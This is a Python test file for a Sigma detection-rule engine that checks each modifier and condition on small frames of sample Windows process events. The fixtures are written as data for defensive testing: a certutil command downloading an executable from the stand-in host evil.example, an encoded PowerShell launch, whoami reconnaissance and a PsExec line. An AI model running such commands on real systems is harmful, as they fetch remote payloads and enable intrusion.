"""Each Sigma modifier and condition form, compiled and evaluated on small frames."""

from __future__ import annotations

import textwrap

import numpy as np
import polars as pl
import pytest

from watchkeeper.detect import sigma_hits
from watchkeeper.detect.sigma_expressions import AllOf, ColumnTest, plan_tests
from watchkeeper.detect.sigma_hits import Answer, distinct, evaluate
from watchkeeper.detect.sigma_reference import reference_hits
from watchkeeper.detect.sigma_rules import RuleSet, parse_rules

PROCESSES = [
    {
        "process.executable": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "process.command_line": "powershell.exe -NoProfile -EncodedCommand SQBFAFgA",
        "process.parent.executable": r"C:\Windows\explorer.exe",
        "user.name": "CORP\\alice",
        "winlog.event_data.IntegrityLevel": "High",
        "source.ip": "10.1.2.3",
        "process.pid": "4242",
    },
    {
        "process.executable": r"C:\Windows\System32\cmd.exe",
        "process.command_line": "cmd.exe /c whoami /all",
        "process.parent.executable": r"C:\Program Files\Office\winword.exe",
        "user.name": "CORP\\bob",
        "winlog.event_data.IntegrityLevel": "Medium",
        "source.ip": "192.168.7.9",
        "process.pid": "17",
    },
    {
        "process.executable": r"C:\Tools\PsExec64.exe",
        "process.command_line": "psexec64 \\\\host -s cmd.exe\nsecond line",
        "process.parent.executable": None,
        "user.name": "",
        "winlog.event_data.IntegrityLevel": None,
        "source.ip": "2001:db8::5",
        "process.pid": "not-a-number",
    },
    {
        "process.executable": r"C:\Windows\System32\certutil.exe",
        "process.command_line": "certutil -urlcache -split -f http://evil.example/x.exe",
        "process.parent.executable": r"C:\Windows\System32\cmd.exe",
        "user.name": "SYSTEM",
        "winlog.event_data.IntegrityLevel": "System",
        "source.ip": "10.200.0.1",
        "process.pid": "9000",
    },
]


def frame(rows: list[dict[str, object]] = PROCESSES) -> pl.DataFrame:
    full = [{"event.dataset": "sysmon", "event.code": "1", **row} for row in rows]
    return pl.DataFrame(full, schema=dict.fromkeys(full[0], pl.String))


def rules(
    detection: str, logsource: str = "{category: process_creation, product: windows}"
) -> RuleSet:
    text = textwrap.dedent(
        """\
        title: test rule
        id: 00000000-0000-4000-8000-000000000001
        logsource: {logsource}
        detection:
        {detection}
        level: medium
        """
    ).format(logsource=logsource, detection=textwrap.indent(textwrap.dedent(detection), "  "))
    loaded = parse_rules(text=text, name="rule.yml")
    assert not loaded.errors, loaded.errors
    return loaded


def fired(detection: str, rows: list[dict[str, object]] = PROCESSES) -> list[int]:
    """Rows the engine fires on; the reference evaluator must agree."""
    loaded = rules(detection)
    (rule,) = loaded.rules
    assert rule.supported, rule.unsupported
    data = frame(rows)
    engine = evaluate(rules=loaded, frame=data).for_rule(rule.id).tolist()
    reference = reference_hits(rules=loaded, events=data.to_dicts())[rule.id]
    assert engine == reference
    return engine


CASES = [
    ("plain equality, case-insensitive", "sel:\n  User: corp\\ALICE\ncondition: sel", [0]),
    ("list is OR", "sel:\n  User: [corp\\alice, system]\ncondition: sel", [0, 3]),
    ("contains", "sel:\n  CommandLine|contains: WHOAMI\ncondition: sel", [1]),
    ("contains list", "sel:\n  CommandLine|contains: [urlcache, whoami]\ncondition: sel", [1, 3]),
    (
        "contains all",
        "sel:\n  CommandLine|contains|all: [-urlcache, -split]\ncondition: sel",
        [3],
    ),
    (
        "contains all needs all",
        "sel:\n  CommandLine|contains|all: [-urlcache, zzz]\ncondition: sel",
        [],
    ),
    ("startswith", "sel:\n  Image|startswith: 'c:\\tools\\'\ncondition: sel", [2]),
    ("endswith", "sel:\n  Image|endswith: ['\\cmd.exe', '\\certutil.exe']\ncondition: sel", [1, 3]),
    ("wildcard middle", "sel:\n  Image: 'C:\\Windows\\\\*\\cmd.exe'\ncondition: sel", [1]),
    ("wildcard single", "sel:\n  Image: '*\\psexec?4.exe'\ncondition: sel", [2]),
    ("wildcard spans newline", "sel:\n  CommandLine: 'psexec64*line'\ncondition: sel", [2]),
    ("escaped wildcard is literal", "sel:\n  CommandLine|contains: 'x\\*'\ncondition: sel", []),
    ("star alone = any value", "sel:\n  ParentImage: '*'\ncondition: sel", [0, 1, 3]),
    ("re search", "sel:\n  CommandLine|re: '-[Ee]ncoded[A-Z]'\ncondition: sel", [0]),
    ("re is case-sensitive", "sel:\n  CommandLine|re: 'WHOAMI'\ncondition: sel", []),
    ("re i flag", "sel:\n  CommandLine|re|i: 'WHOAMI'\ncondition: sel", [1]),
    ("re anchors", "sel:\n  CommandLine|re: '^cmd\\.exe'\ncondition: sel", [1]),
    ("re m flag", "sel:\n  CommandLine|re|m: '^second'\ncondition: sel", [2]),
    ("re s flag", "sel:\n  CommandLine|re|s: 'cmd.exe.second'\ncondition: sel", [2]),
    ("cidr ipv4", "sel:\n  SourceIp|cidr: 10.0.0.0/8\ncondition: sel", [0, 3]),
    (
        "cidr narrow",
        "sel:\n  SourceIp|cidr: ['10.200.0.0/30', '192.168.7.9/32']\ncondition: sel",
        [1, 3],
    ),
    ("cidr ipv6", "sel:\n  SourceIp|cidr: '2001:db8::/32'\ncondition: sel", [2]),
    ("base64", "sel:\n  CommandLine|base64|contains: 'IEX'\ncondition: sel", []),
    ("base64offset", "sel:\n  CommandLine|base64offset|contains: 'IEX'\ncondition: sel", []),
    ("windash", "sel:\n  CommandLine|windash|contains: ' -c '\ncondition: sel", [1]),
    ("exists true", "sel:\n  IntegrityLevel|exists: true\ncondition: sel", [0, 1, 3]),
    ("exists false", "sel:\n  IntegrityLevel|exists: false\ncondition: sel", [2]),
    ("null is null or empty", "sel:\n  User: null\ncondition: sel", [2]),
    ("gt", "sel:\n  ProcessId|gt: 4242\ncondition: sel", [3]),
    ("gte", "sel:\n  ProcessId|gte: 4242\ncondition: sel", [0, 3]),
    ("lt ignores non-numbers", "sel:\n  ProcessId|lt: 100000\ncondition: sel", [0, 1, 3]),
    ("lte", "sel:\n  ProcessId|lte: 17\ncondition: sel", [1]),
    ("cased", "sel:\n  CommandLine|cased|contains: 'EncodedCommand'\ncondition: sel", [0]),
    ("cased misses", "sel:\n  CommandLine|cased|contains: 'encodedcommand'\ncondition: sel", []),
    ("neq", "sel:\n  User|neq: system\ncondition: sel", [0, 1, 2]),
    ("fallback to winlog.event_data", "sel:\n  IntegrityLevel: high\ncondition: sel", [0]),
    (
        "and/not/parentheses",
        "a:\n  Image|endswith: '.exe'\nb:\n  User: system\nc:\n  User|contains: bob\n"
        "condition: a and not (b or c)",
        [0, 2],
    ),
    (
        "1 of selection_*",
        "selection_a:\n  User|contains: alice\nselection_b:\n  User: system\n"
        "condition: 1 of selection_*",
        [0, 3],
    ),
    (
        "all of selection_*",
        "selection_a:\n  Image|endswith: '\\cmd.exe'\n"
        "selection_b:\n  CommandLine|contains: whoami\ncondition: all of selection_*",
        [1],
    ),
    (
        "1 of them",
        "sel1:\n  User: system\nsel2:\n  User|contains: bob\ncondition: 1 of them",
        [1, 3],
    ),
    (
        "all of them",
        "sel1:\n  Image|contains: system32\nsel2:\n  ParentImage|endswith: cmd.exe\n"
        "condition: all of them",
        [3],
    ),
    (
        "not filter where the filter field is missing",
        "sel:\n  Image|endswith: '.exe'\nfilter:\n  ParentImage|contains: explorer\n"
        "condition: sel and not filter",
        [1, 2, 3],
    ),
    (
        "list of maps is OR",
        "sel:\n  - User: system\n  - CommandLine|contains: whoami\ncondition: sel",
        [1, 3],
    ),
    ("keywords search mapped columns", "keywords:\n  - 'urlcache'\ncondition: keywords", [3]),
    ("keyword wildcard", "keywords:\n  - 'psexec*\\\\host'\ncondition: keywords", [2]),
]


@pytest.mark.parametrize(
    ("detection", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_modifiers_and_conditions(detection: str, expected: list[int]) -> None:
    assert fired(detection) == expected


def test_missing_column_is_false_and_reported() -> None:
    loaded = rules(
        "sel:\n  OriginalFileName: cmd.exe\nfilt:\n  User: system\ncondition: not sel and not filt"
    )
    hits = evaluate(rules=loaded, frame=frame())
    (rule,) = loaded.rules
    assert hits.for_rule(rule.id).tolist() == [0, 1, 2]
    assert hits.missing_fields[rule.id] == ("OriginalFileName",)


def test_row_filter_keeps_other_telemetry_out() -> None:
    data = pl.concat(
        [
            frame(),
            pl.DataFrame(
                {"event.dataset": ["zeek.dns"], "event.code": [None], "user.name": ["SYSTEM"]},
                schema={
                    "event.dataset": pl.String,
                    "event.code": pl.String,
                    "user.name": pl.String,
                },
            ),
        ],
        how="diagonal",
    )
    loaded = rules("sel:\n  User: system\ncondition: sel")
    assert evaluate(rules=loaded, frame=data).to_frame()["row"].to_list() == [3]


def test_groups_evaluate_many_rules_in_one_pass() -> None:
    text = "\n---\n".join(
        textwrap.dedent(
            f"""\
            title: rule {k}
            id: 00000000-0000-4000-8000-00000000000{k}
            logsource: {{category: {category}, product: windows}}
            detection:
              sel:
                {field}|contains: '{needle}'
              condition: sel
            """
        )
        for k, (category, field, needle) in enumerate(
            [
                ("process_creation", "CommandLine", "whoami"),
                ("process_creation", "Image", "certutil"),
                ("dns_query", "QueryName", "evil"),
            ]
        )
    )
    loaded = parse_rules(text=text, name="many.yml")
    data = pl.concat(
        [
            frame(),
            pl.DataFrame({"event.category": ["dns"], "dns.question.name": ["evil.example"]}),
        ],
        how="diagonal",
    )
    table = evaluate(rules=loaded, frame=data).to_frame()
    assert table.rows() == [
        ("00000000-0000-4000-8000-000000000000", 1),
        ("00000000-0000-4000-8000-000000000001", 3),
        ("00000000-0000-4000-8000-000000000002", 4),
    ]


def test_distinct_values_and_codes() -> None:
    data = pl.DataFrame({"a": ["x", None, "y", "x", ""], "n": [3, 1, 3, None, 2]})
    text = distinct(frame=data, column="a")
    assert text.codes is not None
    assert text.values.gather(text.codes).to_list() == ["x", None, "y", "x", ""]
    assert text.values.to_list()[-1] is None and text.values.null_count() == 1
    numbers = distinct(frame=data, column="n")
    assert numbers.codes is not None
    assert numbers.values.gather(numbers.codes).to_list() == ["3", "1", "3", None, "2"]
    absent = distinct(frame=data, column="missing")
    assert absent.codes is None and absent.values.to_list() == [None]


def test_tests_on_one_column_are_merged_into_one() -> None:
    loaded = rules(
        "sel:\n  Image|endswith: '.exe'\nfilter:\n  Image|contains: [tools, temp]\n"
        "condition: sel and not filter"
    )
    (rule,) = loaded.rules
    assert isinstance(rule.plan, ColumnTest) and rule.plan.column == "process.executable"
    two = rules("sel:\n  Image|endswith: '.exe'\n  User: system\ncondition: sel").rules[0]
    assert isinstance(two.plan, AllOf)
    assert sorted(t.column for t in plan_tests(two.plan)) == ["process.executable", "user.name"]


def test_rules_sharing_tests_and_literals_over_a_subset_of_rows() -> None:
    """Rules sharing a column, literals inside each other ('who' in 'whoami'), a row filter
    that leaves some rows out: each rule still fires where the reference says."""
    text = "\n---\n".join(
        f"title: r{k}\nid: 00000000-0000-4000-8000-00000000010{k}\n"
        "logsource: {category: process_creation, product: windows}\n"
        f"detection:\n  sel:\n    CommandLine|contains: {needles}\n  condition: {condition}\n"
        for k, (needles, condition) in enumerate(
            [("[who, whoami]", "sel"), ("whoami", "sel"), ("[who, ami /]", "not sel"), ("o", "sel")]
        )
    )
    loaded = parse_rules(text=text, name="shared.yml")
    data = frame(PROCESSES + PROCESSES)
    data = data.with_columns(
        pl.when(pl.int_range(pl.len()) % 3 == 0)
        .then(pl.lit("3"))
        .otherwise(pl.col("event.code"))
        .alias("event.code")
    )
    hits = evaluate(rules=loaded, frame=data)
    expected = reference_hits(rules=loaded, events=data.to_dicts())
    assert {rule.id: hits.for_rule(rule.id).tolist() for rule in loaded.rules} == expected
    assert expected["00000000-0000-4000-8000-000000000101"] == [1, 5]


def test_regex_end_anchor_is_the_end_of_the_text() -> None:
    rows = [{**PROCESSES[1], "process.command_line": "cmd.exe /c whoami\n"}]
    assert fired("sel:\n  CommandLine|re: 'whoami$'\ncondition: sel", rows) == []
    assert fired("sel:\n  CommandLine|re|m: 'whoami$'\ncondition: sel", rows) == [0]


def test_answers_are_sparse_both_ways() -> None:
    rare = np.array([False, True, False, False, False])
    common = ~rare
    for held in (rare, common, np.zeros(3, np.bool_), np.ones(3, np.bool_)):
        answer = Answer.of(held)
        assert answer.dense().tolist() == held.tolist()
        assert len(answer.where) <= len(held) // 2
        counts = np.arange(1, len(held) + 1, dtype=np.int64)
        assert answer.held(counts, int(counts.sum())) == int(counts[held].sum())


def test_tests_split_into_chunks_give_the_same_hits(monkeypatch: pytest.MonkeyPatch) -> None:
    """A batch too large to test every literal at once is tested in runs; same answers."""
    text = "\n---\n".join(
        f"title: r{k}\nid: 00000000-0000-4000-8000-00000000020{k}\n"
        "logsource: {category: process_creation, product: windows}\n"
        f"detection:\n  sel:\n    CommandLine|contains: {needles}\n"
        "  img:\n    Image|endswith: .exe\n  condition: sel and img\n"
        for k, needles in enumerate(["[who, whoami]", "-s", "[url, split, ' -']", "second"])
    )
    loaded = parse_rules(text=text, name="chunks.yml")
    expected = reference_hits(rules=loaded, events=frame().to_dicts())
    assert sum(1 for rows in expected.values() if rows) >= 3
    for cells in (sigma_hits.CELLS, 1, 40):  # all at once, one test per run, a few per run
        monkeypatch.setattr(sigma_hits, "CELLS", cells)
        hits = evaluate(rules=loaded, frame=frame())
        for rule in loaded.rules:
            assert hits.for_rule(rule.id).tolist() == expected[rule.id], cells
